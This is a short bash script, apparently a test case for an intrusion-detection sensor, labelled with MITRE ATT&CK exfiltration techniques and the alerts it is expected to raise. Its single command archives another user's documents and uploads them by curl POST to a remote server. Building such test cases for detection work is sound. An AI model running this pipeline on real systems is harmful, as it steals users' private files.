#!/usr/bin/env bash
# tactic: exfiltration
# technique: T1048.003 Exfiltration Over Unencrypted Non-C2 Protocol; T1560.001 Archive via Utility
# behaviour: archives another user's documents and posts the archive to an outside web server in one pipeline
# as: root
# needs: remote
# expect: mass_read, staging, new_destination
set -u
tar czf - -C "$SNTL_VICTIM_HOME" docs | curl -s -m 10 -X POST --data-binary @- http://$SNTL_REMOTE:8080/upload > /dev/null
